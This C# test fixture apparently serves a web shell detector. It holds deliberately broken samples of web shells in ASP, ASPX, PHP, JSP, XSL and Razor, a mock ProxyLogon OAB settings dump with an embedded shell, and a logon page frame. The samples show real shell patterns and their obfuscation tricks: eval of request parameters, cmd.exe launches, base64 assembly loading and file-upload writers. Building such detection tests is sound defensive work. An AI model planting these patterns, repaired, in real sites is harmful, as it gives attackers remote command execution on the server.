namespace Hindcast.Tests.Unit.WebShells;

/// <summary>
/// Pages with the traits of web shells that cannot work: each holds a line that does not compile, so that a server answers
/// an error and runs nothing.
/// </summary>
internal static class InertPages
{
    /// <summary>Not a statement in any of the languages.</summary>
    internal const string Broken = "this test page does not compile ) ;\n";

    internal static readonly (string Name, string Text)[] All =
    [
        ("jscript.aspx", "<%@ Page Language=\"Jscript\"%>\n<%\n" + Broken + "eval(Request.Item[\"inertkey\"],\"unsafe\");%>"),
        ("script-block.aspx", "<script language=\"JScript\" runat=\"server\">\n" + Broken + "function Page_Load(){eval(Request[\"inertkey\"],\"unsafe\");}</script>"),
        ("classic.asp", "<%\n" + Broken + "execute request(\"inertkey\")\n%>"),
        ("classic-bracket.asp", "<%" + Broken + "ExecuteGlobal(Request.Form(\"inertkey\"))%>"),
        ("joined.asp", "<%\n" + Broken + "a = \"wscr\" & \"ipt.s\" & StrReverse(\"lleh\")\nset b = Server.CreateObject(a)\nb.Run Request(\"inertkey\")\n%>"),
        ("process.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">\n" + Broken
            + "void Go(object s, EventArgs e) { ProcessStartInfo i = new ProcessStartInfo(); i.FileName = \"cmd.exe\"; i.Arguments = box.Text; Process.Start(i); }</script>\n"
            + "<form runat=\"server\"><asp:TextBox id=\"box\" runat=\"server\"/></form>"),
        ("process-vb.aspx", "<%@ Page Language=\"VB\" %><script runat=\"server\">\n" + Broken
            + "Sub Go(s As Object, e As EventArgs)\nDim p As New Process()\np.StartInfo.FileName = Request.Form(\"inertkey\")\np.Start()\nEnd Sub</script>"),
        ("load.ashx", "<%@ WebHandler Language=\"C#\" Class=\"X\" %>\n" + Broken
            + "public class X { void P(HttpContext c) { byte[] b = Convert.FromBase64String(c.Request[\"inertkey\"]); Assembly.Load(b).CreateInstance(\"Y\"); } }"),
        ("service.asmx", "<%@ WebService Language=\"C#\" Class=\"X\" %>\n" + Broken
            + "public class X { [WebMethod] public string Go(string inertkey) { Process p = Process.Start(\"cmd.exe\", inertkey); return \"\"; } }"),
        ("escaped.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken + "System.Diagnostics.Pr\\u006fcess.St\\u0061rt(Request[\"inertkey\"]);%>"),
        ("commented.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken + "System/*a*/.Diagnostics./*b*/Process/*c*/./*d*/Start/*e*/(Request/*f*/[\"inertkey\"]);%>"),
        ("split.aspx", "<%@ Page Language=\"C#\" %><% if (Request[\"inertkey\"] != null) { string a = Request[\"inertkey\"]; " + Broken + "%>text<% Process.Start(a); } %>"),
        ("write.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken + "System.IO.File.WriteAllText(Request[\"path\"], Request[\"inertkey\"]);%>"),
        ("tunnel.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
            + "string t = Request.Headers[\"X-INERT\"]; Socket s = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); s.Connect(t, 80); s.Receive(buffer);%>"),
        ("plain.php", "<?php " + Broken + "eval($_POST['inertkey']);"),
        ("named.php", "<?php " + Broken + "$f = 'sys' . strrev('met'); $f($_GET['inertkey']);"),
        ("request-named.php", "<?php " + Broken + "$f = $_GET['f']; $f($_GET['inertkey']);"),
        ("pattern.php", "<?php " + Broken + "preg_replace('/.*/e', $_POST['inertkey'], 'x');"),
        ("encoded.php", "<?php " + Broken + "eval(base64_decode('" + Convert.ToBase64String("this does not compile ) ; system($_GET['inertkey']);"u8) + "'));"),
        ("exec.jsp", "<%@ page import=\"java.io.*\" %><%\n" + Broken + "Process p = Runtime.getRuntime().exec(request.getParameter(\"inertkey\"));%>"),
        ("class.jsp", "<%!class U extends ClassLoader{Class g(byte[] b){return super.defineClass(b,0,b.length);}}%><%\n" + Broken
            + "new U().g(Base64.getDecoder().decode(request.getParameter(\"inertkey\")));%>"),
        ("web.config", "<?xml version=\"1.0\"?><configuration><system.webServer/></configuration>\n<!--\n<%\n" + Broken + "Execute(Request(\"inertkey\"))\n%>\n-->"),
        ("lambda.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
            + "Func<byte[], object> load = (b) => { var a = Assembly.Load(b); return a.CreateInstance(\"Y\"); };\nload(Convert.FromBase64String(Request[\"inertkey\"]));%>"),
        ("captured.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
            + "Action<Page> go = (p) => { byte[] b = Convert.FromBase64String(p.Request[\"inertkey\"]); Action<string> run = n => { Assembly.Load(b).CreateInstance(n); }; run(\"Y\"); };\ngo(this);%>"),
        ("unnamed.ashx", "<%@ Language=\"C#\" Class=\"X\" %>\n" + Broken
            + "public class X { byte[] Body(HttpRequest r) { return Convert.FromBase64String(r.Form[\"inertkey\"]); } void P(HttpContext c) { var b = this.Body(c.Request); Assembly.Load(b); } }"),
        ("built.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">\n" + Broken
            + "class L { public L(byte[] b) { Assembly.Load(b); } }\nvoid Page_Load() { var l = new L(Convert.FromBase64String(Request[\"inertkey\"])); }</script>"),
        ("letters.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken
            + "var b = Convert.FromBase64String(Request[\"inertkey\"]);\nType.GetType(new string(new char[] { 'S', 'y', 's' }) + \"tem.Reflection.Assembly\").GetMethod(\"Load\").Invoke(null, new object[] { b });%>"),
        ("sheet.xsl", "<xsl:stylesheet xmlns:msxsl=\"urn:schemas-microsoft-com:xslt\"><msxsl:script language=\"JScript\" implements-prefix=\"x\">\n" + Broken
            + "function go() { eval(Request.Item[\"inertkey\"], \"unsafe\"); }</msxsl:script></xsl:stylesheet>"),
        ("mapped.php", "<?php " + Broken + "array_map(\"ass\\x65rt\", (array)$_REQUEST['inertkey']);"),
        ("created.php", "<?php " + Broken + "call_user_func(create_function(null, 'assert($_POST[\"inertkey\"]);'));"),
        ("one-line.asp", "<%Function Go(s) eval s End Function%><%D = request(\"inertkey\")%><%Go D%><%\n" + Broken + "%>"),
        ("named-place.aspx", "<%@ Page Language=\"C#\" %><%\n" + Broken + "Request.Files[0].SaveAs(Request.Form[\"inertkey\"]);%>"),
        ("typed-folder.aspx", "<%@ Page Language=\"C#\" %><script runat=\"server\">\n" + Broken
            + "void Go(object s, EventArgs e) { up.SaveAs(box.Text + \"\\\\\" + up.FileName); }</script>\n"
            + "<form runat=\"server\"><asp:TextBox id=\"box\" runat=\"server\"/><asp:FileUpload id=\"up\" runat=\"server\"/></form>"),
        ("razor.cshtml", "@{ " + Broken + " System.Diagnostics.Process.Start(Request[\"inertkey\"]); }"),
    ];

    /// <summary>A dump of settings as ProxyLogon leaves it; the script in it does not compile.</summary>
    internal const string OabDump =
        "Name                            : OAB (Default Web Site)\r\nPollInterval                    : 480\r\nOfflineAddressBooks             : \r\n"
        + "AdminDisplayVersion             : Version 15.1 (Build 2176.2)\r\nServer                          : EX01\r\n"
        + "InternalUrl                     : https://ex01.contoso.example/OAB\r\n"
        + "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">does not compile ) ; function Page_Load(){eval(Request[\"inertkey\"],\"unsafe\");}</script>\r\n"
        + "WhenChanged                     : 3/3/2021 4:30:00 AM\r\nWhenCreated                     : 3/3/2021 4:23:00 AM\r\n"
        + "WhenChangedUTC                  : 3/3/2021 12:30:00 PM\r\nOriginatingServer               : dc01.contoso.example\r\nIsValid                         : True\r\n";

    /// <summary>The frame of a logon page; what is put in decides.</summary>
    internal static string Logon(string server, string client) =>
        "<%@ Page Language=\"C#\" %>\n" + server + "<html><form action=\"/owa/auth.owa\" method=\"POST\"><input id=\"username\" name=\"username\"/>"
        + "<input id=\"password\" type=\"password\" name=\"password\"/></form><script>" + client + "</script></html>";
}
